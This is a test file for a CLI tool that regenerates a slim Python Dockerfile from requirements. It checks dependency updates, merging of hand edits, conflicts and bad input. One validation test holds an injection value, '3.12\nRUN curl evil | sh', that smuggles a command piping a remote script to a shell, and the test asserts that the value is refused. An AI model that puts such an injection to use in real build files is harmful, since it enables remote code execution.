/**
 * Scenario tests of `update` on real files: requirements change and the Dockerfile follows;
 * hand edits survive; conflicts exit 3; --check gates CI; bad input exits 2.
 */
import { chmodSync, mkdtempSync, readFileSync, statSync, symlinkSync, unlinkSync, writeFileSync, existsSync, renameSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.ts';

let work: string;
let app: string;
const read = (path: string) => readFileSync(join(app, path), 'utf8');
const write = (path: string, text: string) => writeFileSync(join(app, path), text);

beforeEach(async () => {
  work = mkdtempSync(join(tmpdir(), 'csp-update-'));
  app = join(work, 'app');
  const created = await runCli(['app', '--yes', '--python', '3.12', '--requirement', 'cryptography', '--requirement', 'aiohttp'], { cwd: work });
  expect(created.exitCode).toBe(0);
});

const update = (...args: string[]) => runCli(['update', app, ...args], { cwd: work });

describe('update follows requirements', () => {
  it('is up to date right after create, and --check agrees', async () => {
    const check = await update('--check');
    expect(check.exitCode).toBe(0);
    const result = await update();
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/Dockerfile: up to date/);
  });

  it('--no-bytecode drops the compile step and records the choice; --bytecode brings it back', async () => {
    expect(read('Dockerfile')).toMatch(/python3 -m compileall/);
    const off = await update('--no-bytecode');
    expect(off.exitCode).toBe(0);
    expect(JSON.parse(read('slim-python.json')).bytecode).toBe(false);
    expect(read('Dockerfile')).not.toMatch(/compileall/);
    expect((await update('--check')).exitCode).toBe(0);
    expect((await update('--bytecode')).exitCode).toBe(0);
    expect(JSON.parse(read('slim-python.json')).bytecode).toBe(true);
    expect(read('Dockerfile')).toMatch(/python3 -m compileall -q -b/);
  });

  it('adds build and runtime packages for a requirement that must compile, then removes them', async () => {
    write('requirements.txt', 'cryptography\naiohttp\npsycopg2\n');
    const check = await update('--check');
    expect(check.exitCode).toBe(1);
    expect(check.stdout).toMatch(/^\+ {6}libpq-dev/m);
    expect(read('Dockerfile')).not.toMatch(/libpq/);
    const result = await update();
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/added libpq-dev \(build\) because psycopg2 must compile/);
    expect(result.stdout).toMatch(/added libpq \(runtime\) because psycopg2 needs it at run time/);
    expect(read('Dockerfile')).toMatch(/^ {6}libpq-dev/m);
    expect((await update('--check')).exitCode).toBe(0);

    write('requirements.txt', 'cryptography\naiohttp\n');
    const back = await update();
    expect(back.stdout).toMatch(/removed libpq \(runtime\) because psycopg2 is no longer required/);
    expect(read('Dockerfile')).not.toMatch(/libpq/);
  });

  it('an old cryptography pin brings the Rust toolchain; unpinning removes it with the reason', async () => {
    write('requirements.txt', 'cryptography==3.3.2\naiohttp\n');
    await update();
    expect(read('Dockerfile')).toMatch(/build-base/);
    write('requirements.txt', 'cryptography>=42\naiohttp\n');
    const result = await update();
    expect(result.stdout).toMatch(/removed build-base \(build\) because cryptography now installs from a wheel/);
  });

  it('keeps the file mode', async () => {
    chmodSync(join(app, 'Dockerfile'), 0o640);
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    await update();
    expect(statSync(join(app, 'Dockerfile')).mode & 0o777).toBe(0o640);
  });

  it('--dry-run prints the diff and changes nothing', async () => {
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    const before = read('Dockerfile');
    const result = await update('--dry-run');
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/^--- a\/Dockerfile/m);
    expect(read('Dockerfile')).toBe(before);
  });

  it('says when a package went because you removed it', async () => {
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    await update();
    const ambiguous = await update('--build-deps', '-libpq-dev');
    expect(ambiguous.exitCode).toBe(2);
    expect(ambiguous.stderr).toMatch(/write it as --build-deps=VALUE/);
    const result = await update('--build-deps=-libpq-dev');
    expect(result.stdout).toMatch(/removed libpq-dev \(build\) because you removed it/);
    expect(JSON.parse(read('slim-python.json')).buildDeps.remove).toEqual(['libpq-dev']);
  });

  it('flags change the config too', async () => {
    const result = await update('--python', '3.13', '--runtime-libs', '+libmagic');
    expect(result.exitCode).toBe(0);
    const config = JSON.parse(read('slim-python.json'));
    expect(config.python).toBe('3.13');
    expect(config.runtimeLibs.add).toEqual(['libmagic']);
    expect(read('Dockerfile')).toMatch(/FROM python:3\.13-alpine/);
    expect(read('Dockerfile')).toMatch(/libmagic/);
    expect((await update('--check')).exitCode).toBe(0);
  });
});

describe('update and included requirement files', () => {
  it('copies -r includes at their relative paths and follows their requirements', async () => {
    const { mkdirSync } = await import('node:fs');
    mkdirSync(join(app, 'reqs'));
    write('reqs/base.txt', 'psycopg2\n');
    write('requirements.txt', '-r reqs/base.txt\naiohttp\n');
    const result = await update();
    expect(result.exitCode).toBe(0);
    expect(read('Dockerfile')).toContain('COPY reqs/base.txt /tmp/requirements/reqs/base.txt');
    expect(read('Dockerfile')).toMatch(/libpq-dev/);
  });

  it('refuses an include whose path cannot be written in a COPY line', async () => {
    write('odd name.txt', 'psycopg2\n');
    write('requirements.txt', '-r "odd name.txt"\naiohttp\n');
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/includes "odd name\.txt": rename it/);
  });
});

describe('update keeps hand edits', () => {
  it('keeps every edited line outside the regenerated ones', async () => {
    const original = read('Dockerfile');
    const edited = original
      .replace('FROM alpine:${ALPINE_VERSION} AS release\n', 'FROM alpine:${ALPINE_VERSION} AS release\nLABEL org.opencontainers.image.source="https://example.invalid/app"\n')
      .replace(/^CMD .*$/m, 'CMD ["python", "-m", "app", "--verbose"]')
      .replace('WORKDIR /app\n', 'WORKDIR /app\n# my own comment\nENV TZ=UTC\nRUN echo hi > /tmp/hi\n');
    write('Dockerfile', edited);
    write('requirements.txt', 'cryptography\naiohttp\npsycopg2\n');
    const result = await update();
    expect(result.stderr).toBe('');
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/Dockerfile: regenerated, your edits merged in/);
    const merged = read('Dockerfile');
    for (const line of ['LABEL org.opencontainers.image.source="https://example.invalid/app"', 'CMD ["python", "-m", "app", "--verbose"]', '# my own comment', 'ENV TZ=UTC', 'RUN echo hi > /tmp/hi']) {
      expect(merged).toContain(line);
    }
    expect(merged).toMatch(/libpq-dev/);
    expect((await update('--check')).exitCode).toBe(0);
  });

  it('conflicting edits get markers and exit 3; --keep and --force resolve', async () => {
    const original = read('Dockerfile');
    // Edit the very lines the regeneration changes: the release stage's apk line.
    const edited = original.replace(/^ {4}xargs apk add --no-cache ca-certificates tzdata < \/tmp\/runtime-deps$/m, '    xargs apk add --no-cache ca-certificates tzdata tini < /tmp/runtime-deps');
    expect(edited).not.toBe(original);
    write('Dockerfile', edited);
    write('requirements.txt', 'aiohttp\npython-magic\n');

    const kept = await update('--keep');
    expect(kept.exitCode).toBe(0);
    expect(read('Dockerfile')).toBe(edited);

    const conflicted = await update();
    expect(conflicted.exitCode).toBe(3);
    expect(conflicted.stderr).toMatch(/conflicts in Dockerfile lines \d+-\d+/);
    expect(read('Dockerfile')).toMatch(/^<<<<<<< Dockerfile \(yours\)$/m);
    expect(read('Dockerfile')).toContain('tini');
    // Unresolved markers are refused on the next run.
    const again = await update();
    expect(again.exitCode).toBe(3);
    expect(again.stderr).toMatch(/still has conflict markers/);

  });

  it('--force takes the new render and keeps a .orig backup', async () => {
    const edited = read('Dockerfile').replace(/^ {4}xargs apk add --no-cache ca-certificates tzdata < \/tmp\/runtime-deps$/m, '    xargs apk add --no-cache ca-certificates tzdata tini < /tmp/runtime-deps');
    write('Dockerfile', edited);
    write('requirements.txt', 'aiohttp\npython-magic\n');
    const forced = await update('--force');
    expect(forced.exitCode).toBe(0);
    expect(forced.stdout).toMatch(/took the new render/);
    expect(read('Dockerfile.orig')).toBe(edited);
    expect(read('Dockerfile')).toMatch(/libmagic/);
    expect(read('Dockerfile')).not.toContain('tini');
    expect((await update('--check')).exitCode).toBe(0);
  });
});

describe('update: bad input exits 2, nothing written', () => {
  it.each([
    ['{', /slim-python\.json: not valid JSON/],
    ['{"version": 9}', /newer create-slim-python/],
  ])('corrupt config %s', async (text, message) => {
    write('slim-python.json', text);
    const before = read('Dockerfile');
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(message);
    expect(read('Dockerfile')).toBe(before);
  });

  it('a config value failing validation names the key', async () => {
    const config = JSON.parse(read('slim-python.json'));
    write('slim-python.json', JSON.stringify({ ...config, python: '3.12\nRUN curl evil | sh' }));
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/"python" contains a control character/);
  });

  it('a newer generator is refused', async () => {
    const config = JSON.parse(read('slim-python.json'));
    write('slim-python.json', JSON.stringify({ ...config, generator: '99.0.0' }));
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/newer than this create-slim-python/);
  });

  it('a missing requirements.txt', async () => {
    unlinkSync(join(app, 'requirements.txt'));
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/requirements\.txt not found/);
  });

  it('a missing config', async () => {
    const result = await runCli(['update', work], { cwd: work });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/slim-python\.json not found/);
  });

  it('a Dockerfile that is a symlink', async () => {
    renameSync(join(app, 'Dockerfile'), join(work, 'elsewhere'));
    symlinkSync(join(work, 'elsewhere'), join(app, 'Dockerfile'));
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/Dockerfile is a symlink/);
    expect(readFileSync(join(work, 'elsewhere'), 'utf8')).not.toMatch(/libpq/);
  });

  it('an invalid requirement names file and line', async () => {
    write('requirements.txt', 'aiohttp\nfoo==\n');
    const result = await update();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/requirements\.txt:2: /);
  });

  it('no leftover temporary files after updates', async () => {
    write('requirements.txt', 'aiohttp\npsycopg2\n');
    await update();
    expect(existsSync(join(app, 'Dockerfile'))).toBe(true);
    const { readdirSync } = await import('node:fs');
    expect(readdirSync(app).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });
});
